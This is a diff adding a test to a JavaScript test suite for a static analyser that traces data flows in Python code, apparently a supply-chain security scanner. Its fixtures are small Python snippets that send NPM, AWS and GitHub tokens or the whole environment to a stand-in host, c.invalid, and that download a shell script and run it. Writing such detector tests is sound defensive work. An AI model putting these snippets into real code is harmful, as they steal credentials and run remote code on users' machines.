@@ -254,3 +254,37 @@ t.test('places are those of the editor', async (t) => {
   t.match(capabilities.get('network')?.[0], { line: 4, column: 1, note: 'calls requests.post' })
   t.equal(awakeFlows(summarisePython('x.py', 'def f(): pass')).length, 0)
 })
+
+t.test('flows tell which variable, which hosts, and whether a file lies between', async (t) => {
+  const one = summarisePython(
+    'x.py',
+    "import os, requests\nrequests.post('https://c.invalid/x', headers={'a': os.environ['NPM_TOKEN']})",
+  )
+  t.match(one.flows, [{ source: { name: 'NPM_TOKEN' }, hosts: ['https://c.invalid/x'] }])
+  const whole = summarisePython(
+    'x.py',
+    'import os, socket\ns = socket.socket()\ns.connect(("c.invalid", 1))\ns.send(repr(os.environ))',
+  )
+  t.equal(whole.flows[0]?.source.name, undefined)
+  const many = summarisePython(
+    'x.py',
+    "import os, requests\nfor k in ['NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN']:\n    requests.post('u', os.getenv(k))",
+  )
+  t.equal(many.flows[0]?.source.name, undefined, 'credentials of many services are a collection')
+  const each = summarisePython(
+    'x.py',
+    'import os, requests\nfor k in os.environ:\n    requests.post("u", os.environ[k])',
+  )
+  t.ok(
+    each.flows.some(({ source }) => source.name === undefined),
+    'every variable by its name is the whole environment',
+  )
+  const file = summarisePython(
+    'x.py',
+    "import os, urllib.request as u\nu.urlretrieve('https://c.invalid/a.sh', '/tmp/a.sh')\nos.system('sh /tmp/a.sh')",
+  )
+  t.match(
+    file.flows.find(({ sink }) => sink.kind === 'process'),
+    { viaFile: true, hosts: ['https://c.invalid/a.sh'], sink: { note: 'runs sh /tmp/a.sh' } },
+  )
+})
